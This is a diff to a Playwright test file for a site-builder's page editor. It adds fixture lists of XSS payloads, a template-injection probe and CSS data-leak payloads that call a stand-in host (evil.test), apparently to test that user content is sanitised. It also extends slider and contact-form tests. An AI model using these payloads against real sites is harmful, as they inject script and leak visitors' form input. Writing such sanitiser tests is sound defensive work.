@@ -7,6 +7,7 @@ import pytest
 from playwright.async_api import expect
 
 from journeys.accessibility import DESKTOP, PHONE, find_violations, find_what_is_too_wide
+from polling import poll
 
 PAGES = ("", "/shop", "/about")
 
@@ -36,6 +37,15 @@ HOSTILE_HTML = [
     "<style>@import '//evil.test/a.css';</style>",
     "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
     "<p id=content class=skip>x</p>",
+    "<p data-gjs-type=script data-GJS-script='hit()'>x</p>",
+    "<a href='&#x6A;&#x61;vascript&colon;hit()' id=go>x</a>",
+    "<a href='data:text/html,<script>opener.hit()</script>' id=go target=_blank>x</a>",
+    "<svg><script>hit()</script><foreignObject><iframe src='javascript:parent.hit()'></foreignObject></svg>",
+    "<p style='color:red}</style><script>hit()</script>'>x</p>",
+    "<p style='&#98;ackground:u&#114;l(//evil.test/a.png)'>x</p>",
+    "<object data='//evil.test/a'></object><embed src='//evil.test/a'>",
+    "<div hidden=until-found onbeforematch=hit()>x</div><details ontoggle=hit() open>x</details>",
+    "{{ self.__init__.__globals__ }}{% for x in ().__class__.__bases__ %}{% endfor %}${hit()}#{hit()}",
 ]
 HOSTILE_CSS = [
     "@import url(//evil.test/a.css);",
@@ -53,6 +63,14 @@ HOSTILE_CSS = [
     "p { outline: 9999px solid red }",
     "input[value^=a] { background: url(//evil.test/a) }",
     ":root { --primary: red } :root header { visibility: hidden }",
+    "@\\49 MPORT/**/'//evil.test/a.css';",
+    "a[href^='/en'] { background: url(//evil.test/leak?a) }",
+    "form:has(input[name^=e]:valid) { background: url(//evil.test/leak) }",
+    "p::before { content: url(//evil.test/a.png) }",
+    "p { cursor: url(//evil.test/a.cur), auto }",
+    "p { --x: url(//evil.test/a.png); background: var(--x) }",
+    "@layer a { @supports (x:y) { p { background: \\75\\72\\6c(//evil.test/a.png) } } }",
+    "p { filter: url(//evil.test/a.svg#x) } p { mask: url(//evil.test/b.svg) }",
 ]
 # How many of a grid of points outside of the widget's box lead to an element of it.
 COVERED = """id => {
@@ -141,11 +159,18 @@ async def test_a_saved_change_shows_within_a_second(visitor, editor, site_url):
     assert created.status_code == 201
     await page.goto(url)
     await expect(page.get_by_text("Before")).to_be_visible()
-    body = {"jsonSimplifiedContent": [{"html": "<p>After</p>", "css": "p { color: rgb(1, 2, 3) }"}]}
+    slides = "<div class='slide'>1</div><div class='slide'>2</div>"
+    slider = f"<souk-slider slides='2' width='400' height='200' controls='true'>{slides}</souk-slider>"
+    body = {"jsonSimplifiedContent": [{"html": f"<p>After</p>{slider}", "css": "p { color: rgb(1, 2, 3) }"}]}
     assert (await editor.put(f"/en/api/pages/{created.json()['id']}", json=body)).status_code == 200
     await page.wait_for_timeout(1000)
     await page.reload()
     await expect(page.get_by_text("After")).to_have_css("color", "rgb(1, 2, 3)")
+    # The buttons of the slider are the browser's own, and above the slides.
+    shown = page.locator("souk-slider")
+    box = await shown.bounding_box()
+    await page.mouse.click(box["x"] + box["width"] - 30, box["y"] + box["height"] / 2)
+    await poll(lambda: shown.evaluate("slider => slider.scrollLeft"), lambda moved: moved == box["width"])
     # Of one tenant's host, not of the other's.
     assert (await page.goto(site_url("atlas", "/en/news"))).status == 404
     assert (await editor.delete(f"/en/api/pages/{created.json()['id']}")).status_code == 200
@@ -201,5 +226,9 @@ async def test_a_visitor_writes_to_the_business_without_script(chromium, site_ur
     await expect(page.get_by_text("Thank you. Your message was sent.")).to_be_visible()
     await context.close()
     messages = (await editor.get("/en/api/contact_messages")).json()["hydra:member"]
-    newest = messages[0]
-    assert (newest["name"], newest["text"], newest["isRead"]) == ("Salma", "Do you have saffron?", False)
+    # What was rejected first is not among them.
+    assert [
+        (message["email"], message["text"], message["route"], message["locale"], message["isRead"])
+        for message in messages
+        if message["name"] == "Salma"
+    ] == [("salma@example.org", "Do you have saffron?", "/about", "en", False)]
